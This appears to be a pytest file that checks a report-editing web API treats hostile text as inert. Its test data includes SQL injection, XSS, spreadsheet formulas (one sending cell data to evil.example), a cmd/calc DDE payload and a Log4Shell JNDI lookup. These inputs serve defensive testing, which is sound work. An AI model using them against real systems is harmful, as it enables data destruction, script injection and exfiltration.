"""SQL, scripts and spreadsheet formulas in every free-text field come back as the inert text that they are."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from mrs.contracts import dataset

from tests.api.conftest import RUN, Api, Workshop

HOSTILE = [
    "'; DROP TABLE minority_reports; --",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1|cmd' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
    "‮gnp.exe ünïcödé 日本 🎪 \u200b",
    '"quoted", commas; =1+1',
    "＝1+1",
    "＋1;＠SUM(1);\t-1",
]
LINES = '"quoted", commas, and\nline feeds'


@pytest.mark.parametrize("text", HOSTILE)
def test_text_comes_back_as_it_was(workshop: Workshop, analyst: Api, text: str) -> None:
    report = analyst.get("/api/reports", limit=1)["items"][0]
    event = analyst.get("/api/events", limit=1)["items"][0]
    shown = analyst.edit("reports", report, action="comment", comment=text)
    assert (shown.status_code, shown.json()["edits"][0]["comment"]) == (201, text)
    assert shown.headers["Content-Type"] == "application/json"
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    named = analyst.edit("events", event, action="rename", name=text).json()["events"][0]
    assert named["name"] == text
    noted = analyst.edit("events", named, action="add_evidence", evidence=text, source=text)
    assert noted.json()["edits"][0]["value"] == {"evidence": text, "source": text}
    rows = workshop.state.logs.read(dataset("user_minority_events_edits_log"), RUN).to_pylist()
    assert {"name": text} in [json.loads(r["value"]) for r in rows]
    found = analyst.get("/api/events", q=text, limit=500)["items"]
    assert event["report_group_id"] in {e["report_group_id"] for e in found}


def test_a_comment_has_lines_and_a_name_has_one(analyst: Api) -> None:
    report = analyst.get("/api/reports", limit=1)["items"][0]
    event = analyst.get("/api/events", limit=1)["items"][0]
    assert analyst.edit("reports", report, action="comment", comment=LINES).json()["edits"][0]["comment"] == LINES
    for name in (LINES, "a\n", "a\u2028b"):
        refused = analyst.edit("events", event, action="rename", name=name)
        assert refused.status_code == 422, name
        assert "line breaks" in refused.json()["errors"][0]["message"]


def test_a_spreadsheet_runs_nothing_of_an_export(workshop: Workshop, analyst: Api) -> None:
    events = analyst.get("/api/events", limit=len(HOSTILE))["items"]
    names = {}
    for event, text in zip(events, HOSTILE, strict=False):
        names[event["report_group_id"]] = text
        assert analyst.edit("events", event, action="rename", name=text).status_code == 201
    link = analyst.post("/api/exports", {"dataset": "minority_events_log", "format": "csv"}).json()
    answer = Api(workshop.url, None).send("GET", link["url"].removeprefix(workshop.url))
    assert "attachment" in answer.headers["Content-Disposition"]
    rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(answer.content.decode())))
    assert len(rows) == link["rows"]
    for row in rows:
        cells = [cell for value in row.values() for cell in value.split(";")]
        assert all(cell.strip()[:1] not in tuple("=+@＝＋－＠") for cell in cells)
        assert all(not cell.strip().startswith("-") for cell in row["name"].split(";"))
        expected = names.get(row["report_group_id"], row["name"])
        assert row["name"].replace("'", "") == expected.replace("'", "")


def test_a_control_character_is_refused(analyst: Api) -> None:
    report = analyst.get("/api/reports", limit=1)["items"][0]
    assert analyst.edit("reports", report, action="comment", comment="a\x00b").status_code == 422


def test_a_link_that_was_not_signed_opens_nothing(workshop: Workshop, analyst: Api) -> None:
    link = analyst.post("/api/exports", {"dataset": "attribution_ready_sales", "format": "parquet"}).json()["url"]
    path = link.removeprefix(workshop.url)
    outsider = Api(workshop.url, None)
    assert outsider.send("GET", path).status_code == 200
    assert outsider.send("GET", path.partition("?")[0]).status_code == 403
    assert outsider.send("GET", path.replace("attribution_ready_sales", "minority_reports")).status_code == 403
